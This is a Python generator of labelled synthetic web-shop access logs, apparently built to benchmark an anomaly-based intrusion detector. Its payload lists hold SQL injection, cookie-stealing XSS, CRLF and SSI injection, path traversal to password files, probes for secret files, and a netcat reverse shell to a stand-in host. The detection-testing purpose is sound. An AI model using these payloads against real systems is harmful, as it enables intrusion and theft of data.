#!/usr/bin/env python3
"""Labelled web-shop traffic for the learned-profile evaluation (bench/web_profile.sh).

Usage: gen_webshop.py --out DIR [--train N] [--test N] [--attacks N] [--train-attacks R] [--seed S]

Writes, as Apache combined logs:
  DIR/train.log        normal requests (plus a share R of attack requests, default 0.002, to show
                       that learning copes with a little attack traffic in the training logs)
  DIR/test.log         held-out normal requests of the same generator, and attack requests
  DIR/test.labels      per line of test.log: normal, or the attack's class

The application: a shop with a catalogue, search, product pages, a cart, registration, login,
orders and reviews, static images and assets. Parameter values come from small vocabularies
(names with accents, streets, cities, e-mail addresses, free-text reviews with punctuation), so
the normal traffic is varied the way real form input is.

Attack classes (each derived from a normal request, then altered):
  sqli            keyword SQL injection (' OR 1=1--, UNION SELECT, ; DROP TABLE)
  sqli_keywordless  a quote after a number, AND 1=1, a quote then DELETE FROM
  xss             <script>, event handlers, javascript: URLs, encoded
  crlf            CR/LF header injection, plain and double-encoded, and NUL bytes
  ssi             <!--#exec cmd=...-->, <!--#include file=...-->
  shell           | ; ` $( in parameters, plain and encoded
  probe           backup and source files of real pages (.bak .old ~ .inc .swp), other servers' files
  traversal       ../ and encoded variants in file parameters
  tamper_name     a parameter the shop never receives (actionX, B2, debug, admin)
  tamper_chars    characters a parameter never has (a letter or punctuation in a quantity, a slash in a label)
  tamper_enum     a value outside a small set (sort order, language, country, button label)
  tamper_missing  a parameter the shop always receives left out
  overflow        a value hundreds of characters long
"""
import argparse
import os
import random
import urllib.parse

FIRST = ["Ana", "José", "María", "Luis", "Carmen", "Jörg", "Chloé", "Pedro", "Lucía", "Tomás", "Inés", "John",
         "Emma", "Oliver", "Noah", "Sofía", "Álvaro", "Zoë", "Mateo", "Julia", "Raúl", "Nuria", "Iker", "Aitana"]
LAST = ["García", "Martínez", "López", "Sánchez", "Pérez", "Gómez", "Fernández", "Smith", "Müller", "Dubois",
        "Rossi", "Núñez", "Ibáñez", "Brown", "Wilson", "Jiménez", "Castro", "Ortega", "Delgado", "Moreno"]
STREETS = ["Calle Mayor", "Avenida de la Paz", "Plaza España", "Main Street", "Rue de Rivoli", "Gran Vía",
           "Paseo del Prado", "Camino Real", "Oak Avenue", "Calle del Carmen"]
CITIES = ["Madrid", "Barcelona", "Valencia", "Sevilla", "Zaragoza", "Málaga", "Bilbao", "Alicante", "Córdoba",
          "Valladolid", "Paris", "Lyon", "Berlin", "London"]
DOMAINS = ["example.com", "mail.example.org", "correo.example.es", "example.net", "uni.example.edu"]
WORDS = ("good quality fast delivery excellent price works fine recommended bad broken small large colour "
         "size fits perfect gift cheap expensive battery screen sound value thanks again love it").split()
SEARCH = ("red shoes laptop bag phone case headphones coffee maker lamp desk chair book kids toys garden tools "
          "running shirt winter jacket usb cable charger").split()
CATEGORIES = list(range(1, 13))
SORTS = ["price", "name", "newest", "rating"]
LANGS = ["en", "es", "fr", "de"]
COUNTRIES = ["ES", "FR", "DE", "GB", "PT", "IT"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
       "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1"]


def q(v):
    return urllib.parse.quote_plus(v, safe="")


class Shop:
    def __init__(self, rng):
        self.r = rng

    def name(self):
        return self.r.choice(FIRST)

    def surname(self):
        s = self.r.choice(LAST)
        if self.r.random() < 0.2:
            s += " " + self.r.choice(LAST)
        return s

    def email(self, first, last):
        user = (first + "." + last.split()[0]).lower()
        user = user.encode("ascii", "ignore").decode() or "user"
        if self.r.random() < 0.3:
            user += str(self.r.randint(1, 99))
        return user + "@" + self.r.choice(DOMAINS)

    def password(self):
        alphabet = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
        return "".join(self.r.choice(alphabet) for _ in range(self.r.randint(8, 14)))

    def review(self):
        words = [self.r.choice(WORDS) for _ in range(self.r.randint(3, 25))]
        text = " ".join(words).capitalize()
        return text + self.r.choice([".", "!", ".", "", " :)", "!!", ", thanks."])

    def request(self):
        """One normal request: (method, path, [(name, value)], status)."""
        r = self.r
        k = r.random()
        if k < 0.18:
            return "GET", "/shop/index.jsp", [], 200
        if k < 0.30:
            params = [("category", str(r.choice(CATEGORIES))), ("sort", r.choice(SORTS))]
            if r.random() < 0.5:
                params.append(("page", str(r.randint(1, 20))))
            return "GET", "/shop/catalog.jsp", params, 200
        if k < 0.45:
            return "GET", "/shop/product.jsp", [("id", str(r.randint(1, 4000)))], 200
        if k < 0.53:
            words = " ".join(r.choice(SEARCH) for _ in range(r.randint(1, 3)))
            return "GET", "/shop/search.jsp", [("q", words), ("lang", r.choice(LANGS))], 200
        if k < 0.61:
            return "GET", "/shop/cart/add.jsp", [("id", str(r.randint(1, 4000))), ("qty", str(r.randint(1, 9))),
                                                 ("action", "add"), ("B1", "Add to cart")], 200
        if k < 0.65:
            action = r.choice(["update", "remove"])
            return "GET", "/shop/cart/update.jsp", [("id", str(r.randint(1, 4000))), ("qty", str(r.randint(0, 9))),
                                                    ("action", action)], 200
        if k < 0.69:
            return "GET", "/shop/checkout.jsp", [("step", str(r.randint(1, 3))), ("B1", r.choice(["Continue", "Back"]))], 200
        if k < 0.73:
            first, last = self.name(), self.surname()
            pw = self.password()
            return "GET", "/shop/register.jsp", [
                ("name", first), ("surname", last), ("email", self.email(first, last)), ("password", pw),
                ("password2", pw), ("address", "%s %d" % (r.choice(STREETS), r.randint(1, 200)) +
                                    (", %dº %s" % (r.randint(1, 9), r.choice("ABCD")) if r.random() < 0.4 else "")),
                ("city", r.choice(CITIES)), ("zip", "%05d" % r.randint(1000, 52999)),
                ("phone", "%d" % r.randint(600000000, 799999999)), ("country", r.choice(COUNTRIES)),
                ("B1", "Register")], 200
        if k < 0.78:
            first, last = self.name(), self.surname()
            params = [("user", self.email(first, last)), ("pwd", self.password())]
            if r.random() < 0.5:
                params.append(("remember", "on"))
            params.append(("B1", "Log in"))
            return "GET", "/shop/login.jsp", params, 200
        if k < 0.81:
            return "GET", "/shop/account/orders.jsp", [("order", str(r.randint(10000, 99999)))], 200
        if k < 0.84:
            return "GET", "/shop/review.jsp", [("id", str(r.randint(1, 4000))), ("rating", str(r.randint(1, 5))),
                                               ("text", self.review())], 200
        if k < 0.93:
            return "GET", "/shop/images/%d.jpg" % r.randint(1, 4000), [], 200
        if k < 0.97:
            return "GET", r.choice(["/shop/css/style.css", "/shop/js/app.js", "/shop/js/cart.js",
                                    "/shop/images/logo.png", "/favicon.ico"]), [], r.choice([200, 304])
        return "POST", r.choice(["/shop/cart/add.jsp", "/shop/login.jsp", "/shop/register.jsp"]), [], 200


def target(path, params, encode=True):
    if not params:
        return path
    if encode:
        return path + "?" + "&".join(q(n) + "=" + q(v) for n, v in params)
    return path + "?" + "&".join(n + "=" + v for n, v in params)


def raw_target(path, params, name, raw_value):
    """The request with one parameter's value replaced by raw (already encoded) text."""
    parts = []
    for n, v in params:
        parts.append(q(n) + "=" + (raw_value if n == name else q(v)))
    return path + "?" + "&".join(parts)


def with_params(shop):
    while True:
        m, path, params, status = shop.request()
        if params:
            return m, path, params, status


SQLI = ["' OR '1'='1", "' OR 1=1--", "1 UNION SELECT username,password FROM users--", "'; DROP TABLE users;--",
        "1' AND SLEEP(5)--", "admin'--", "1 UNION ALL SELECT NULL,NULL,NULL--"]
SQLI_KL = ["%s'", "%s AND 1=1", "%s' AND '1'='1", "%s' DELETE FROM orders", "%s)--", "%s' OR 'x'='x"]
XSS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
       "<svg/onload=alert(1)>", "<iframe src=//evil.example/>"]
CRLF = ["%0d%0aSet-Cookie:%20session=evil", "%250d%250aSet-Cookie%253a%2520x%253d1", "%0aLocation:%20http://evil.example/",
        "%00", "%2500.jpg", "x%0d%0a%0d%0a<html>injected</html>"]
SSI = ['<!--#exec cmd="ls -la"-->', '<!--#include file="/etc/passwd"-->', '<!--#include virtual="/admin/"-->',
       '<!--#echo var="DOCUMENT_ROOT"-->', '<!--#exec cgi="/cgi-bin/id"-->']
SHELL = ["|id", ";cat /etc/passwd", "`id`", "$(whoami)", "&& ls -la", "| nc evil.example 4444 -e /bin/sh"]
SHELL_ENC = ["%7Cid", "%257Cid", "%3Bcat%20%2Fetc%2Fpasswd", "%60id%60", "%24%28id%29"]
TRAVERSAL = ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fshadow",
             "....//....//etc/hosts", "..%252f..%252fetc%252fpasswd"]
PROBE_SUFFIX = [".bak", ".BAK", ".old", "~", ".orig", ".swp", ".inc", ".save", ".tmp", ".copy"]
PROBE_FILES = ["/admin.nsf", "/servlet/SnoopServlet", "/IISSamples/default/query.asp", "/WEB-INF/web.xml",
               "/shop/WEB-INF/web.xml", "/phpinfo.php", "/.git/config", "/shop/.env", "/console/login/LoginForm.jsp",
               "/shop/admin/", "/manager/html", "/shop/config.inc", "/backup.zip", "/shop/db.sql"]
UNKNOWN_NAMES = ["actionX", "B2", "debug", "admin", "idA", "qtyy", "isAdmin", "price", "discount", "role"]


def attack(shop, cls):
    r = shop.r
    m, path, params, status = with_params(shop)
    name, value = r.choice(params)
    if cls == "sqli":
        return raw_target(path, params, name, q(value + r.choice(SQLI)) if r.random() < 0.5 else q(r.choice(SQLI)))
    if cls == "sqli_keywordless":
        numeric = [(n, v) for n, v in params if v.isdigit()]
        if numeric:
            name, value = r.choice(numeric)
        return raw_target(path, params, name, q(r.choice(SQLI_KL) % value))
    if cls == "xss":
        payload = r.choice(XSS)
        return raw_target(path, params, name, q(payload) if r.random() < 0.7 else payload.replace(" ", "%20"))
    if cls == "crlf":
        return raw_target(path, params, name, q(value) + r.choice(CRLF))
    if cls == "ssi":
        return raw_target(path, params, name, q(r.choice(SSI)))
    if cls == "shell":
        if r.random() < 0.5:
            return raw_target(path, params, name, q(value + r.choice(SHELL)))
        return raw_target(path, params, name, q(value) + r.choice(SHELL_ENC))
    if cls == "traversal":
        return raw_target(path, params, name, r.choice(TRAVERSAL))
    if cls == "probe":
        if r.random() < 0.6:
            page = r.choice(["/shop/index.jsp", "/shop/catalog.jsp", "/shop/product.jsp", "/shop/login.jsp",
                             "/shop/cart/add.jsp", "/shop/register.jsp"])
            return page + r.choice(PROBE_SUFFIX)
        return r.choice(PROBE_FILES)
    if cls == "tamper_name":
        altered = list(params)
        if r.random() < 0.5:
            i = r.randrange(len(altered))
            altered[i] = (altered[i][0] + r.choice(["X", "2", "_", "A"]), altered[i][1])
        else:
            altered.append((r.choice(UNKNOWN_NAMES), r.choice(["1", "true", "yes", "0"])))
        return target(path, altered)
    if cls == "tamper_chars":
        choices = []
        for n, v in params:
            if v.isdigit():
                choices.append((n, v + r.choice(["a", ".5", "-", ",", "e3", "!", "/"])))
            elif n == "B1":
                cut = r.randint(1, len(v) - 1)
                choices.append((n, v[:cut] + r.choice(["/", "<", ";", "\\"]) + v[cut:]))
            elif n in ("email", "user"):
                choices.append((n, v.replace("@", r.choice(["<@", "@\"", "@*"]), 1)))
            elif n in ("name", "city"):
                choices.append((n, v + r.choice(["<", ">", "{", "}", "|", "\\", "^", "~", "="])))
        if not choices:
            return attack(shop, cls)
        n, v = r.choice(choices)
        return raw_target(path, params, n, q(v))
    if cls == "tamper_enum":
        enums = [(n, v) for n, v in params if n in ("sort", "lang", "country", "action", "B1", "rating", "step", "remember")]
        if not enums:
            return attack(shop, cls)
        n, v = r.choice(enums)
        other = r.choice(["Pasar por caja", "asc", "xx", "ZZ", "delete", "price desc", "6", "0", "off", "Submit"])
        return raw_target(path, params, n, q(other))
    if cls == "tamper_missing":
        required = [p for p in params if p[0] in ("id", "qty", "action", "B1", "q", "email", "name", "order", "step")]
        if len(params) < 2 or not required:
            return attack(shop, cls)
        drop = r.choice(required)
        return target(path, [p for p in params if p != drop])
    if cls == "overflow":
        filler = r.choice(["A", "x", "9", "%41"])
        return raw_target(path, params, name, filler * r.randint(300, 3000))
    raise ValueError(cls)


CLASSES = ["sqli", "sqli_keywordless", "xss", "crlf", "ssi", "shell", "probe", "traversal", "tamper_name",
           "tamper_chars", "tamper_enum", "tamper_missing", "overflow"]


def line(r, ip, t, method, tgt, status):
    stamp = "%02d/Dec/2026:%02d:%02d:%02d +0000" % (1 + t // 86400, (t // 3600) % 24, (t // 60) % 60, t % 60)
    size = r.randint(200, 40000) if status == 200 else 0
    return '%s - - [%s] "%s %s HTTP/1.1" %d %d "-" "%s"\n' % (ip, stamp, method, tgt, status, size, r.choice(UAS))


def client(r):
    return "198.51.100.%d" % r.randint(1, 254) if r.random() < 0.5 else "203.0.113.%d" % r.randint(1, 254)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    ap.add_argument("--train", type=int, default=40000)
    ap.add_argument("--test", type=int, default=20000)
    ap.add_argument("--attacks", type=int, default=6500, help="attack requests in the test set (all classes)")
    ap.add_argument("--train-attacks", type=float, default=0.002)
    ap.add_argument("--seed", type=int, default=20261207)
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    r = random.Random(a.seed)
    shop = Shop(r)
    t = 0
    with open(os.path.join(a.out, "train.log"), "w") as f:
        for _ in range(a.train):
            t += r.randint(0, 6)
            if r.random() < a.train_attacks:
                f.write(line(r, "192.0.2.%d" % r.randint(1, 254), t, "GET", attack(shop, r.choice(CLASSES)), 200))
                continue
            m, path, params, status = shop.request()
            f.write(line(r, client(r), t, m, target(path, params), status))
    # The test set: held-out normal requests with the attacks among them, a label per line.
    kinds = ["normal"] * a.test + [CLASSES[i % len(CLASSES)] for i in range(a.attacks)]
    r.shuffle(kinds)
    with open(os.path.join(a.out, "test.log"), "w") as f, open(os.path.join(a.out, "test.labels"), "w") as labels:
        for kind in kinds:
            t += r.randint(0, 3)
            if kind == "normal":
                m, path, params, status = shop.request()
                f.write(line(r, client(r), t, m, target(path, params), status))
            else:
                f.write(line(r, "192.0.2.%d" % r.randint(1, 254), t, "GET", attack(shop, kind), 200))
            labels.write(kind + "\n")

if __name__ == "__main__":
    main()
